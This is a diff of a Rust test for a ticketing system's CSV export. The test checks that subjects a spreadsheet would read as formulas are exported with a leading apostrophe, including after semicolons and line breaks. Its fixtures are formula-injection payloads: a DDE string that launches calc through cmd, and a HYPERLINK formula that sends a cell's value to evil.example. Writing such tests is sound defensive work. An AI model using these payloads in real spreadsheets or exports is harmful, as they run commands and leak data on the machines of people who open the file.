@@ -55,7 +55,7 @@ async fn listed(visitor: &Visitor, query: &str) -> Vec<String> {
 }
 
 /// What a ticket may be called, and whether a spreadsheet would take it for a formula.
-const SUBJECTS: [(&str, bool); 24] = [
+const SUBJECTS: [(&str, bool); 22] = [
     ("=cmd|' /C calc'!A0", true),
     ("=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", true),
     ("+1", true),
@@ -64,8 +64,6 @@ const SUBJECTS: [(&str, bool); 24] = [
     ("  =1+1", true),
     ("\t=1+1", true),
     ("\ta tab", true),
-    ("\r=1+1", true),
-    ("\n=1+1", true),
     ("＝1+1", true),
     ("＋1", true),
     ("－1", true),
@@ -82,12 +80,24 @@ const SUBJECTS: [(&str, bool); 24] = [
     (" ", false),
 ];
 
+/// Subjects that hold formulas where a spreadsheet that separates by semicolons begins a cell, and how they are kept from it.
+const PIECES: [(&str, &str); 4] = [
+    ("\r=1+1", "'\r'=1+1"),
+    ("\n=1+1", "'\n'=1+1"),
+    ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
+    ("one; two;\n@SUM(1)", "one; two;\n'@SUM(1)"),
+];
+
 #[tokio::test(flavor = "multi_thread")]
 async fn hostile_subjects_come_out_as_text() {
     for site in sites().await {
         let alice = site.sign_in("alice").await;
         let mut numbers = Vec::new();
-        for (subject, _) in SUBJECTS {
+        let whole =
+            SUBJECTS.map(|(subject, formula)| (subject, format!("{}{subject}", if formula { "'" } else { "" })));
+        let pieces = PIECES.map(|(subject, kept)| (subject, kept.to_owned()));
+        let subjects: Vec<_> = whole.into_iter().chain(pieces).collect();
+        for (subject, _) in &subjects {
             let number = alice.raise("Harmless", "x").await;
             let quoted = subject.replace('\'', "''");
             let counter = number.trim_start_matches("PT-");
@@ -97,12 +107,12 @@ async fn hostile_subjects_come_out_as_text() {
         let answer = alice.get("/tickets/export?cols=number,subject").await;
         let records = records(&answer);
         assert_eq!(records[0], ["Number", "Subject"]);
-        for (number, (subject, formula)) in numbers.iter().zip(SUBJECTS) {
+        for (number, (_, expected)) in numbers.iter().zip(&subjects) {
             let record = records.iter().find(|record| record[0] == *number).unwrap();
-            let expected = if formula { format!("'{subject}") } else { subject.to_owned() };
-            assert_eq!(record[1], expected);
+            assert_eq!(record[1], *expected);
         }
         let text = answer.text();
+        assert!(text.contains(",\"a;'=cmd|' /C calc'!A0\"\r\n"), "what holds a semicolon is quoted");
         let plain = "cols=number&assignee=none";
         assert!(text.starts_with("\u{feff}Number,Subject\r\n") && text.ends_with("\r\n"));
         let lines = alice.get(&format!("/tickets/export?{plain}")).await.text();
